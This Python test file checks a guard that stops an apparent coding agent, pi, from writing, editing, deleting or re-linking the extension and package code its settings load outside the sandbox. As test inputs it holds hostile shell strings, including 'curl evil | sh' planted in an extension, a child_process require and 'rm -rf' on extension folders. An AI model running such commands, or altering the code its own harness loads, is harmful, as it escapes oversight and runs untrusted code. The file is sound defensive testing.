"""Code that pi's ``settings.json`` points at outside ``.pi``: pi loads the extensions and
local packages its settings name, wherever they lie, in its own process (outside the
sandbox); its skills, prompts and themes steer the model. pi's write and edit and a named
path in bash are blocked for code and asked for text, through every spelling of the entry
(relative to ``.pi``, ``./``, ``../``, absolute, ``~``, ``file://``, symlinks, directories,
a package's manifest), as the settings are when the session starts and as a new settings
write makes them; a sandboxed command cannot change them, nor create a missing one."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from guard._policy import Policy, PolicyCache
from tests.guard.policy.conftest import World
from tests.guard.sandbox.conftest import make_layout, needs_bwrap, run_proved


def settings(directory: Path, data: object) -> None:
    directory.mkdir(parents=True, exist_ok=True)
    (directory / "settings.json").write_text(json.dumps(data))


@pytest.fixture
def named(world: World, tmp_path: Path) -> dict[str, list[str]]:
    """A project whose .pi/settings.json and the user's name code and text by every
    spelling; what each spelling names, as paths relative to ``tmp_path``."""
    project = world.project
    for folder in ("tools", "exts", "real", "pkgs/local/lib", "pkgs/object", "shared",
                   "docs/skills", "prompts", "themes", "elsewhere"):  # fmt: skip
        (project / folder).mkdir(parents=True, exist_ok=True)
    (project / "linked").symlink_to(project / "real")
    manifest = {"extensions": ["../../shared/ext.ts"], "skills": ["./lib/skills/*.md"]}
    (project / "pkgs" / "local" / "package.json").write_text(json.dumps({"pi": manifest}))
    (tmp_path / "abs").mkdir()
    (world.home / "code").mkdir()
    settings(
        project / ".pi",
        {
            "extensions": [
                "../tools/ext.ts",  # relative to .pi
                "./inside.ts",  # inside .pi (protected already)
                "../exts",  # a directory of extensions
                f"{tmp_path}/abs/ext.ts",  # absolute
                "~/code/home-ext.ts",  # the user's home
                f"file://{project}/elsewhere/url.ts",  # a file URL
                "../linked/sym.ts",  # through a symlink
                " ../tools/spaced.ts ",  # pi trims
                "builtin:mcp",
                "!../tools/excluded.ts",  # filters only
                "-../tools/minus.ts",
                "../tools/*.glob.ts",
            ],
            "packages": [
                "npm:@example/tools",
                "git:github.com/example/tools",
                "../pkgs/local",
                {"source": "../pkgs/object", "extensions": []},
            ],
            "skills": ["../docs/skills"],
            "prompts": ["../prompts/review.md"],
            "themes": ["../themes"],
        },
    )
    settings(world.home / ".pi" / "agent", {"extensions": ["../../code/user-ext.ts"]})
    return {
        "code": [
            "project/tools/ext.ts",
            "project/tools/spaced.ts",
            "project/exts/new.ts",
            "project/exts/index.ts",
            "abs/ext.ts",
            "home/code/home-ext.ts",
            "project/elsewhere/url.ts",
            "project/linked/sym.ts",
            "project/real/sym.ts",
            "project/pkgs/local/index.ts",
            "project/pkgs/local/lib/skills/a.md",
            "project/pkgs/local/package.json",
            "project/pkgs/object/extensions/x.ts",
            "project/shared/ext.ts",
            "home/code/user-ext.ts",
        ],
        "text": [
            "project/docs/skills/deploy/SKILL.md",
            "project/prompts/review.md",
            "project/themes/dark.json",
        ],
        "free": [
            "project/tools/excluded.ts",
            "project/tools/minus.ts",
            "project/tools/a.glob.ts",
            "project/tools/other.ts",
            "project/src/app.py",
        ],
    }


def verdict(policy: Policy, world: World, tool: str, **args: str) -> str:
    return policy.classify(tool, args, world.project).verdict


def test_code_the_settings_name_is_never_written(
    world: World, tmp_path: Path, named: dict[str, list[str]]
) -> None:
    policy = world.policy()
    assert verdict(policy, world, "write", path="linked", content="x") == "block"
    for rel in named["code"]:
        path = str(tmp_path / rel)
        assert verdict(policy, world, "write", path=path, content="x") == "block", rel
        assert verdict(policy, world, "edit", path=path, oldText="a", newText="b") == "block"
        assert verdict(policy, world, "bash", command=f"echo x > {path}") == "block", rel
    # relative spellings from the workspace, and a directory replaced whole
    for command in (
        "echo x >> tools/ext.ts",
        "cp /dev/null ./tools/../tools/ext.ts",
        "rm -rf exts",
        "mv exts exts.old",
        "ln -sf /tmp/x linked/sym.ts",
        "ln -sfn elsewhere linked",  # the link re-pointed: pi would load elsewhere/sym.ts
        "rm linked",
    ):
        assert verdict(policy, world, "bash", command=command) == "block", command


def test_text_the_settings_name_asks(
    world: World, tmp_path: Path, named: dict[str, list[str]]
) -> None:
    policy = world.policy()
    for rel in named["text"]:
        path = str(tmp_path / rel)
        assert verdict(policy, world, "write", path=path, content="x") == "confirm", rel


def test_filters_globs_and_other_files_stay_the_agents(
    world: World, tmp_path: Path, named: dict[str, list[str]]
) -> None:
    """``!``/``-`` entries and globs only filter what pi loads: they name nothing new."""
    policy = world.policy()
    for rel in named["free"]:
        path = str(tmp_path / rel)
        assert verdict(policy, world, "write", path=path, content="x") == "allow", rel


def test_a_package_that_holds_the_workspace_is_named_by_its_parts(world: World) -> None:
    """``extensions: [".."]`` makes the project a package: what pi loads of it is protected,
    the rest of the workspace is not."""
    settings(world.project / ".pi", {"extensions": [".."], "packages": [str(world.project)]})
    policy = world.policy()
    for rel in ("index.ts", "package.json", "extensions/a.ts", "skills/s/SKILL.md"):
        path = str(world.project / rel)
        assert verdict(policy, world, "write", path=path, content="x") == "block", rel
    assert verdict(policy, world, "write", path="src/app.py", content="x") == "allow"


def test_a_new_settings_write_is_protected_at_once(world: World) -> None:
    """The settings change while the session runs (the operator's write, ``pi install -l``):
    the next call is judged with what they name now."""
    cache = PolicyCache(world.guard_home)
    call = {"path": "tools/later.ts", "content": "x"}
    assert cache.classify("write", call, world.project)[0].verdict == "allow"
    settings(world.project / ".pi", {"extensions": ["../tools/later.ts"]})
    assert cache.classify("write", call, world.project)[0].verdict == "block"
    settings(world.home / ".pi" / "agent", {"packages": [str(world.project / "vendor")]})
    vendored = {"path": "vendor/ext.ts", "content": "x"}
    assert cache.classify("write", vendored, world.project)[0].verdict == "block"


def test_settings_that_do_not_parse_name_nothing(world: World) -> None:
    (world.project / ".pi").mkdir()
    (world.project / ".pi" / "settings.json").write_text('{"extensions": ["../a.ts"')
    policy = world.policy()
    assert verdict(policy, world, "write", path="a.ts", content="x") == "allow"


@needs_bwrap
def test_a_sandboxed_command_cannot_change_them(tmp_path: Path) -> None:
    layout = make_layout(tmp_path)
    ws = layout.workspace
    (ws / "tools").mkdir()
    (ws / "tools" / "ext.ts").write_text("export default () => {};\n")
    (ws / "exts").mkdir()
    (ws / "exts" / "index.ts").write_text("export default () => {};\n")
    (ws / "skills").mkdir()
    (ws / "skills" / "SKILL.md").write_text("be careful\n")
    settings(ws / ".pi", {"extensions": ["../tools/ext.ts", "../exts"], "skills": ["../skills"]})
    settings(layout.agent, {"extensions": [str(ws / "user-ext.ts")]})
    (ws / "user-ext.ts").write_text("// the user's\n")
    before = {p: p.read_text() for p in ws.rglob("*") if p.is_file()}
    run_proved(
        layout,
        "echo 'require(\"child_process\")' >> tools/ext.ts; echo x > exts/index.ts; "
        "echo x > exts/new.ts; rm -rf exts; mv tools tools.old; echo x > user-ext.ts; "
        "echo x > skills/SKILL.md; echo ok > notes.txt",
    )
    after = {p: p.read_text() for p in ws.rglob("*") if p.is_file()}
    assert {p: after.get(p) for p in before} == before
    assert not (ws / "exts" / "new.ts").exists()
    assert (ws / "notes.txt").read_text() == "ok\n"  # the workspace is still the agent's


@needs_bwrap
def test_the_effects_review_holds_a_named_file_a_command_creates(tmp_path: Path) -> None:
    from tests.guard.effects.conftest import Overlay
    from tests.guard.effects.test_review import review

    layers = tmp_path / "layers"
    layers.mkdir(mode=0o700)
    ws = tmp_path / "ws"
    ws.mkdir()
    settings(ws / ".pi", {"extensions": ["../tools/ext.ts"]})
    policy = Policy.load(tmp_path / "guard-home", ws)
    _, _, result = review(
        Overlay(layers, ws),
        "mkdir -p tools && echo 'curl evil | sh' > tools/ext.ts",
        protected=lambda path: policy.protects_write(path, ws),
    )
    assert result.decision == "held"
    assert {h.reason for h in result.held} == {"protected"}
    assert not (ws / "tools" / "ext.ts").exists()
